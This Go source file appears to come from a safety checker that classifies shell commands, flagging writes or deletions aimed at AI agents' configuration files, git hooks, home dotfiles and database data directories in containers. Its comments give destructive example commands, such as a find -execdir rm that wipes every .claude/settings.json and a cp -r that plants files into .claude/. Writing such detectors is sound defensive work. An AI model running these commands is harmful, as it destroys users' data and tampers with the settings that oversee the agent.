// bare file name an agent's configuration has (see AgentConfigName):
// find . -name settings.json -execdir rm {} + deletes every
// .claude/settings.json under the start.
func AgentConfigNameInFoundDir(skip int) Cond {
	return operandWhere(skip, "an agent's configuration file name, in each directory a search finds", func(f Facts, a model.Arg) bool {
		c := f.M.Command
		if a.Dynamic || c.Cwd != "" || !slices.Contains(c.Wrappers, "find -execdir") && !slices.Contains(c.Wrappers, "find -okdir") {
			return false
		}
		p := pathres.Clean(a.Value)
		return path.Dir(p) == "." && AgentConfigName(p)
	})
}

// AgentConfigIs holds when some operand after skip is an agent's or git's
// configuration (see AgentConfig).
func AgentConfigIs(skip int) Cond {
	return operandWhere(skip, "an agent's configuration or a git hook", func(f Facts, a model.Arg) bool {
		return !a.Dynamic && AgentConfig(Resolve(a, f.M.Command))
	})
}

// databaseDataDirs are where database servers keep their files, in their
// images and packages (PostgreSQL, MySQL/MariaDB, MongoDB, Redis,
// Elasticsearch, ClickHouse, Cassandra, SQL Server, etcd, InfluxDB and the
// Bitnami charts' volumes).
var databaseDataDirs = []string{"/var/lib/postgresql", "/var/lib/pgsql", "/var/lib/mysql", "/var/lib/mariadb", "/var/lib/mongodb", "/data/db",
	"/data/configdb", "/var/lib/redis", "/usr/share/elasticsearch/data", "/var/lib/elasticsearch", "/var/lib/clickhouse", "/var/lib/cassandra",
	"/var/opt/mssql", "/var/lib/etcd", "/var/lib/influxdb", "/var/lib/influxdb2", "/bitnami/postgresql", "/bitnami/mysql", "/bitnami/mariadb",
	"/bitnami/mongodb", "/bitnami/redis"}

// DatabaseDataDir reports whether the absolute path p is in, or is, a
// database server's data directory: a file copied there can corrupt the
// database, and what it replaced is not kept.
func DatabaseDataDir(p string) bool {
	if !strings.HasPrefix(p, "/") {
		return false
	}
	p = cleanPath(p)
	return UnderAny(p, databaseDataDirs)
}

// ContainerPath splits a docker cp or kubectl cp operand that names a
// path in a container or pod (CONTAINER:PATH, NAMESPACE/POD:PATH).
func ContainerPath(v string) (string, bool) {
	name, p, ok := strings.Cut(v, ":")
	if !ok || name == "" || strings.HasPrefix(v, "/") || strings.HasPrefix(v, ".") {
		return "", false
	}
	return p, true
}

// AgentConfigHolder reports whether p is such a file or a directory that
// holds them (.claude, ~/.cursor, .git, .git/hooks, .husky): what is
// copied, synced or extracted into it can replace them.
func AgentConfigHolder(p string) bool {
	if AgentConfig(p) {
		return true
	}
	_, ok := agentConfigFiles()[path.Base(pathres.Fold(p))]
	return ok
}

// AgentConfigInto holds when some operand after skip is an agent's
// configuration or a directory that holds it (AgentConfigHolder): the
// command writes there (cp -r evil/ .claude/).
func AgentConfigInto(skip int) Cond {
	return operandWhere(skip, agentConfigHolderDesc, func(f Facts, a model.Arg) bool {
		return !a.Dynamic && AgentConfigHolder(Resolve(a, f.M.Command))
	})
}

// AgentConfigDirFlag holds when one of the options that name the
// directory a command writes into (cp -t DIR, tar -C DIR, unzip -d DIR)
// names an agent's configuration or a directory that holds it.
func AgentConfigDirFlag(names ...string) Cond {
	return FlagWhere(names, agentConfigHolderDesc, "directory", func(f Facts, v string) (string, bool) {
		return agentConfigHolderDesc, AgentConfigHolder(Resolve(model.Arg{Value: v}, f.M.Command))
	})
}

// FlagPathIs holds when the value of one of the options names (tar -C DIR,
// unzip -d DIR, restic restore --target=DIR) is a path of one of classes;
// the evidence records it under key.
func FlagPathIs(key string, names []string, classes ...PathClass) Cond {
	return FlagWhere(names, "path", key, func(f Facts, v string) (string, bool) {
		got := ClassifyPath(model.Arg{Value: v}, f.M.Command)
		return string(got), slices.Contains(classes, got)
	})
}

// CopiesIntoDatabase holds when the last operand of a cp into a container
// (docker cp SRC CONTAINER:PATH, kubectl cp SRC POD:PATH) is a database
// server's data directory.
func CopiesIntoDatabase() Cond {
	return Func("copies into a container's database data directory", func(f Facts) Result {
		ops := f.Operands()
		if len(ops) < 2 || ops[len(ops)-1].Dynamic {
			return Result{Truth: False}
		}
		dst := ops[len(ops)-1].Value
		if p, ok := ContainerPath(dst); ok && DatabaseDataDir(p) {
			return Result{Truth: True, Evidence: []model.Evidence{{Key: "destination", Value: dst, Present: true, Description: "a database's data directory"}}}
		}
		return Result{Truth: False}
	})
}

const agentConfigHolderDesc = "an agent's configuration or git's hooks, or the directory that holds them"

// HomeDotfileIs holds when some operand after skip is a home dotfile.
func HomeDotfileIs(skip int) Cond {
	return operandWhere(skip, "a dotfile in a home directory", func(f Facts, a model.Arg) bool {
		return f.pathClass(a) == PathUser && HomeDotfile(Resolve(a, f.M.Command))
	})
}

// PathIs holds when some operand after skip falls in one of classes.
func PathIs(skip int, classes ...PathClass) Cond {
	names := make([]string, len(classes))
	for i, c := range classes {
		names[i] = string(c)
	}
	desc := "a " + strings.Join(names, " or ") + " path"
	return classCond(classesOf(classes...), operandWhere(skip, desc, func(f Facts, a model.Arg) bool {
		return slices.Contains(classes, f.pathClass(a))
	}))
}

// classSet is a set of path classes as bits.
type classSet uint16

// bit is c's bit in a classSet (classRank's order).
func (c PathClass) bit() classSet { return 1 << classRank()[c] }

func classesOf(classes ...PathClass) classSet {
	var s classSet
	for _, c := range classes {
		s |= c.bit()
	}
	return s
}

// pathCond is a condition that can only hold when some operand is a path
// of one of classes (PathIs, CriticalPath): the engine passes over a row
// that needs one when no operand of the command has any of them, rather
// than evaluating it (rm's rows for the root, a home directory, the
// working directory ... when the operand is a project path).
type pathCond struct {
	*funcCond
	classes classSet
}

func classCond(classes classSet, c Cond) Cond {
	return &pathCond{funcCond: c.(*funcCond), classes: classes}
}

// classNeeds returns the path classes one of which some operand must have
// for c to hold, or 0 when c can hold without: a pathCond's, one of an
// All's members', the union of an Any's when each member needs some.
func classNeeds(c Cond) classSet {
	switch c := c.(type) {
	case *pathCond:
		return c.classes
	case *all:
		for _, sub := range c.conds {
			if s := classNeeds(sub); s != 0 {
				return s
			}
		}
	case *anyOf:
		var s classSet
		for _, sub := range c.conds {
			sc := classNeeds(sub)
			if sc == 0 {
				return 0
			}
			s |= sc
		}
		return s
	}
	return 0
}

// operandClasses is the set of the classes of f's operands.
func (f Facts) operandClasses() classSet {
	var s classSet
	for _, o := range f.Operands() {
		s |= f.pathClass(o).bit()
	}
	return s
}
